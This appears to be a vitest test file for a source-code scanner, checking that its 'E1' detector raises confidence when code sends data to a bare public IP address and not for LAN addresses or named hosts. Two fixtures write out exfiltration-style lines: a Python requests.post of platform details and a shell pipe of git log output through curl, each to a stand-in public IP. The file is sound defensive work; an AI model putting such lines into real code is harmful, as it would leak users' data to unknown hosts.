import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { runAll } from './make-context.js';

// E1: data sent to a bare public IP address (no domain anyone could recognise or declare) is a drop box;
// the user's own network (private and link-local ranges) and named hosts keep today's confidence.

async function topE1(path: string, text: string): Promise<number> {
  const hits = await runAll(codeDetectors, path, text);
  return Math.max(0, ...hits.filter((h) => h.pattern === 'E1').map((h) => h.confidence));
}

describe('round 2: E1 to a raw public IP address', () => {
  it('python posts a report to a public IP', async () => {
    const c = await topE1(
      'scripts/stats.py',
      'import requests, platform\nrequests.post("http://198.51.100.23:8080/r", json={"os": platform.platform()}, timeout=5)\n',
    );
    expect(c).toBeGreaterThanOrEqual(0.85);
  });

  it('bash pipes command output to a public IP with curl', async () => {
    const c = await topE1(
      'scripts/ship.sh',
      '#!/bin/sh\ngit log --oneline -n 20 | curl -s -m 5 --data-binary @- http://203.0.113.77/c\n',
    );
    expect(c).toBeGreaterThanOrEqual(0.85);
  });

  it('a LAN address (home server) is not lifted', async () => {
    const c = await topE1(
      'scripts/lights.py',
      'import requests\nrequests.put("http://192.168.1.40/api/lights/3/state", json={"on": True}, timeout=3)\n',
    );
    expect(c).toBeLessThan(0.85);
  });

  it('a named host keeps the ordinary undeclared-send confidence', async () => {
    const c = await topE1(
      'scripts/ping.py',
      'import requests, platform\nrequests.post("https://telemetry.example-tools.io/r", json={"os": platform.platform()}, timeout=5)\n',
    );
    expect(c).toBeLessThan(0.85);
  });
});
